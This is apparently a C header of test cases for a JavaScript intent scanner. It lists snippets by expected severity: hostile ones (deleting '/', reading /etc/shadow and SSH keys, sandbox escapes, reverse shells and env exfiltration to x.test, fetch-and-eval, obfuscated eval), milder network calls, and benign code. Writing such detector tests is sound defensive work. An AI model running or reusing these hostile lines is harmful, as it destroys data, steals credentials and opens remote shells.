/* SPDX-License-Identifier: Apache-2.0 */
/* What level guard tells apart: programs that are meant to harm, and programs that merely do something. */
#ifndef TEST_INSPECT_JAVASCRIPT_INTENT_H
#define TEST_INSPECT_JAVASCRIPT_INTENT_H

/* Each has a CRITICAL finding. */
static const char *const intent[] = {
	/* destroying or reading outside of the workspace, secrets */
	"require('fs').rmSync('/', { recursive: true, force: true })",
	"const fs = require('fs'); fs.rmSync('/etc', { recursive: true })",
	"const { rm } = require('fs/promises'); rm(require('os').homedir(), { recursive: true })",
	"import { promises as fs } from 'node:fs'; await fs.rm(process.env.HOME, { recursive: true })",
	"require('rimraf').sync('/')",
	"const fs = require('fs'); fs.readdirSync('/').forEach(f => fs.rmSync('/' + f, { recursive: true }))",
	"const fs = require('fs'); for (const f of list) fs.unlinkSync(`/home/${f}`)",
	"require('fs').readFileSync('/proc/' + pid + '/environ')",
	"require('fs').readFileSync('/etc/shadow', 'utf8')",
	"const fs = require('fs'), os = require('os'), path = require('path');"
	"fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))",
	"require('fs').readFileSync(process.env.HOME + '/.aws/credentials')",
	"require('fs').readFileSync(`${process.env.HOME}/.ssh/id_ed25519`)",
	"require('fs').createReadStream('/proc/self/environ').pipe(process.stdout)",
	"Deno.readTextFileSync('/etc/shadow')",
	/* escaping, privilege, persistence */
	"process.binding('spawn_sync')",
	"process.setuid(0)",
	"process.mainModule.require('fs')",
	"this.constructor.constructor('return process')().exit()",
	"require('vm').runInNewContext(\"this.constructor.constructor('return process')()\")",
	"new (require('vm2').VM)().run(\"this.constructor.constructor('return process')()\")",
	"(async () => {}).constructor('return process')()",
	"require('fs').appendFileSync(require('path').join(require('os').homedir(), '.bashrc'), 'x')",
	"require('net').connect('/var/run/docker.sock'); require('fs').openSync('/var/run/docker.sock')",
	/* commands are judged as commands */
	"require('child_process').execSync('rm -rf /')",
	"require('child_process').spawn('rm', ['-rf', '/'])",
	"import('child_process').then(c => c.exec('rm -rf /'))",
	"import('child_process').then(c => c.exec(atob(x)))",
	/* reverse shells, fork bombs */
	"const net = require('net'), cp = require('child_process'); const sh = cp.spawn('/bin/sh', []);"
	"const c = new net.Socket(); c.connect(4444, 'x.test', () => { c.pipe(sh.stdin); sh.stdout.pipe(c) })",
	"const s = require('tls').connect(443, 'x.test'); require('child_process').spawn('bash', ['-i'])",
	"const { fork } = require('child_process'); for (;;) fork(__filename)",
	"const { fork } = require('child_process'); fork(__filename); fork(__filename)",
	"while (1) { require('child_process').spawn(process.argv[0], [process.argv[1]]) }",
	/* fetch and run */
	"fetch('https://x.test/a.js').then(r => r.text()).then(eval)",
	"fetch(u).then(r => r.text()).then(t => { new Function(t)() })",
	"(async () => { const r = await fetch(u); const t = await r.text(); eval(t) })()",
	"const axios = require('axios'); axios.get(u).then(r => require('vm').runInThisContext(r.data))",
	"require('https').get('https://x.test/a', r => { let b = ''; r.on('data', d => { b += d }); r.on('end', () => "
	"eval(b)) })",
	"require('http').get(u, r => { const l = []; r.on('data', d => require('child_process').exec(d.toString())) })",
	"require('http').createServer((q, r) => "
	"require('child_process').exec(require('url').parse(q.url).query)).listen(1)",
	"fetch('https://x.test/a').then(save); require('child_process').spawn('./a')",
	"import x from 'https://x.test/a.js'",
	/* hiding */
	"['path', 'child_process'].map(require)[1].execSync('id')",
	"Array.from(['child_process'], require)[0].execSync('id')",
	"Object.values(require('child_process')).find(f => f.name === 'execSync')('id')",
	"require\n('child_process').execSync('id')",
	"new (require('worker_threads').Worker)(new URL('data:text/javascript,postMessage(1)'))",
	"const vm = require('vm'); new vm.Script('console.log(1)').runInThisContext()",
	"const M = require('module'); new M('x')._compile('console.log(1)', 'x')",
	"setTimeout(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())",
	"[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]",
	"require('child_process').spawn('rm -rf /', { shell: true })",
	"Object.prototype.NODE_OPTIONS = '--require ./x.js'",
	"export * as cp from 'node:child_process'",
	"module.exports = require('child_process')",
	"eval(atob('Y29uc29sZS5sb2coMSk='))",
	"eval(Buffer.from(s, 'hex').toString('utf8'))",
	"new Function(Buffer.from('MQ==', 'base64').toString())()",
	"eval(unescape('%31'))",
	"eval(list.map(c => String.fromCharCode(c)).join(''))",
	"let s = ''; for (const c of [1, 2]) s += String.fromCharCode(c ^ 3); eval(s)",
	"eval(require('zlib').inflateSync(b).toString())",
	"require('child_process').exec(Buffer.from(x, 'base64').toString())",
	"globalThis['ev' + 'al']('1')",
	"global[['ev', 'al'].join('')]('1')",
	"require('child_' + 'process')",
	"require(['child', 'process'].join('_'))['ex' + 'ec']('ls')",
	"require(`child_${'process'}`)",
	"require('\\x63hild_process')",
	"\\u0065val('1')",
	"Reflect.get(globalThis, 'eval')('1')",
	"const r = require; r('child_process')",
	"module.require('child_process')",
	"require/**/('child_process')",
	"arguments[1]('child_process')",
	"const e = eval; e('1')",
	"globalThis[name](code)",
	"[][a][b]('return process')()",
	"eval(\"console.log('x')\")",
	"new Function(\"require('fs')\")()",
	/* decided by whoever embeds the code */
	"eval(given)",
	"const { exec } = require('child_process'); exec(`ls ${given}`)",
	/* the environment goes out */
	"fetch('https://x.test/', { method: 'POST', body: JSON.stringify(process.env) })",
	"const data = Buffer.from(JSON.stringify(process.env)).toString('base64'); fetch('https://x.test/?' + data)",
	"require('axios').post('https://x.test/', { ...process.env })",
	"const q = require('https').request({ hostname: 'x.test' }); q.end(JSON.stringify(process.env))",
	"require('child_process').exec(`echo ${JSON.stringify(process.env)}`)",
};

static const char *const intent_typescript[] = {
	"(globalThis as any)['ev' + 'al']('1');",
	"(<any>require)('child_process');",
	"const e: any = eval; enum E { A = e('1') }",
	"import cp = require('child_process'); cp.execSync('rm -rf /');",
	"import cp = require('child_process'); import go = cp.execSync; go('rm -rf /');",
	"enum M { A = 'child_', B = 'process' } require(M.A + M.B).execSync('id');",
	"export { execSync } from 'node:child_process';",
	"export default require('child_process');",
};

/* One line on stderr: HIGH, and no more. */
static const char *const reaching_out[] = {
	"fetch('https://x.test/data.json').then(r => r.json()).then(console.log)",
	"require('https').get('https://x.test/', r => r.resume())",
	"const axios = require('axios'); axios.get('https://x.test/', { headers: { authorization: process.env.API_KEY "
	"} })",
	"const server = require('http').createServer(f); fetch('https://x.test/' + name); "
	"fetch(`https://x.test/${name}`)",
	"require('dns').lookup('x.test', console.log)",
	"new WebSocket('wss://x.test')",
	"console.log(process.env)",
	"require('fs').readFile(given, f)",
	"require('fs').readFileSync(`data/${given}`)",
	"require(given)",
	"eval()",
	"function f(line) { require('child_process').spawn(line, { shell: true }) }",
	"require('child_process').spawnSync('sh', ['-c', 'ls | wc -l'])",
};

/* Nothing above MEDIUM. */
static const char *const everyday[] = {
	"const fs = require('fs'); fs.mkdirSync('out', { recursive: true }); fs.writeFileSync('out/a.txt', 'x');"
	"console.log(fs.readFileSync('out/a.txt', 'utf8')); fs.rmSync('out', { recursive: true })",
	"const fs = require('fs'), path = require('path'), os = require('os');"
	"const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'x-')); fs.rmSync(dir, { recursive: true, force: true })",
	"const fs = require('fs'); function read(file) { return fs.readFileSync(file, 'utf8') } read(process.argv[2])",
	"for (const f of require('fs').readdirSync('.')) console.log(f, require('fs').statSync(f).size)",
	"const { spawnSync } = require('child_process'); console.log(spawnSync('ls', ['-l']).stdout.toString())",
	"const { spawn } = require('node:child_process'); const p = spawn('sort'); p.stdin.end('b'); p.on('close', c "
	"=> c)",
	"const cp = require('child_process'); const out = cp.execFileSync('node', ['--version'], { env: { "
	"...process.env } })",
	"const { fork } = require('child_process'); if (process.argv[2] === 'child') process.send(1);"
	"else fork(__filename, ['child']).on('message', console.log)",
	"const cluster = require('cluster'); if (cluster.isPrimary) { for (let i = 0; i < 2; i++) cluster.fork() }",
	"console.log(process.env.HOME, process.env.NODE_ENV || 'dev', process.cwd(), process.pid)",
	"process.chdir('build'); process.umask(0o22); process.on('SIGTERM', () => process.exit(0))",
	"const { Worker, isMainThread, parentPort } = require('worker_threads');"
	"if (isMainThread) new Worker(__filename); else parentPort.postMessage(1)",
	"const { Worker } = require('worker_threads');"
	"new Worker(\"require('worker_threads').parentPort.postMessage(1)\", { eval: true })",
	"const vm = require('vm'); const c = vm.createContext({ x: 2 }); vm.runInContext('y = x * 21', c); "
	"console.log(c.y)",
	"const expr = '2 * (3 + 4)'; console.log(eval(expr))",
	"require('child_process').spawnSync('npm', ['test'], { shell: process.platform === 'win32' })",
	"require('child_process').spawn('npm', ['test'], { shell: true, stdio: 'inherit' })",
	"console.log(new URL('data:text/plain,hi').href, [][0], [][i], [][n + 1])",
	"const { execFile } = require('child_process'); module.exports = { list: f => execFile('ls', f) }",
	"function calculate(text) { if (/^[\\d+*/() -]+$/.test(text)) return eval(text) } calculate('1+1')",
	"const add = new Function('a', 'b', 'return a + b'); console.log(add(1, 2))",
	"const root = Function('return this')(); console.log(typeof root)",
	"const util = import('util').then(m => m.inspect({}))",
	"const http = require('http'); const s = http.createServer((q, r) => r.end('hi'));"
	"s.listen(0, '127.0.0.1', () => http.get({ port: s.address().port }, r => { r.resume(); s.close() }))",
	"const s = require('http').createServer((q, r) => r.end('hi')).listen(0, async () => {"
	"const r = await fetch(`http://localhost:${s.address().port}/`); console.log(await r.text()); s.close() })",
	"const net = require('net'); const s = net.createServer(c => c.pipe(c)); s.listen(0, () => {"
	"const c = net.connect(s.address().port, '127.0.0.1'); c.write('x') })",
	"const app = require('express')(); app.get('/etc/passwd', (q, r) => r.send('x')); app.get('/root', h);"
	"app.use('/dev/status', h); app.listen(3000)",
	"const os = require('os'); console.log(os.cpus().length, os.platform(), os.userInfo().username, os.homedir())",
	"console.log(Buffer.from('aGk=', 'base64').toString(), atob('aGk='), String.fromCharCode(72, 105))",
	"const data = JSON.parse(Buffer.from(process.argv[2], 'base64').toString()); console.log(data)",
	"const fs = require('fs'); for (const f of fs.readdirSync('plugins')) require(`./plugins/${f}`).run()",
	"const path = require('path'); import(path.join(process.cwd(), process.argv[2]))",
	"const client = require('redis').createClient(); client.connect()",
	"const { Server, WebSocket } = require('ws'); const s = new Server({ port: 0 });"
	"new WebSocket(`ws://localhost:${s.address().port}`)",
	"import { test } from 'node:test'; import fs from 'node:fs';"
	"test('x', t => { const file = t.name + '.txt'; fs.writeFileSync(file, 'x'); fs.unlinkSync(file) })",
	"try { require('fs').readFileSync(name()) } catch ({ code, path }) { require('fs').existsSync(path) }",
	"class Store { #file; constructor(file = 'a') { this.#file = file } load() { return "
	"require('fs').readFileSync(this.#file) } }",
	"total = 0; file = 'a'; require('fs').readFileSync(file)",
	"delete require.cache[require.resolve('./a')]; const a = require('./a')",
	"const k = 'na' + 'me'; const o = { name: 1 }; console.log(o[k], globalThis['count' + 1])",
	"if (typeof Deno !== 'undefined') console.log(Deno.args); else console.log(process.argv)",
	"const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]); WebAssembly.instantiate(bytes)",
	"console.log(f.constructor.name, [].constructor === Array, Object.getPrototypeOf(f))",
	"import { createRequire } from 'module'; const require = createRequire(import.meta.url); const fs = "
	"require('fs')",
	"const { promisify } = require('util'); const run = promisify(require('child_process').execFile); run('ls', "
	"[])",
	"while (true) { const line = next(); if (!line) break; require('child_process').spawnSync('echo', [line]) }",
	"const secret = require('crypto').randomBytes(8).toString('hex'); require('fs').writeFileSync('note.enc', "
	"secret)",
};

#endif
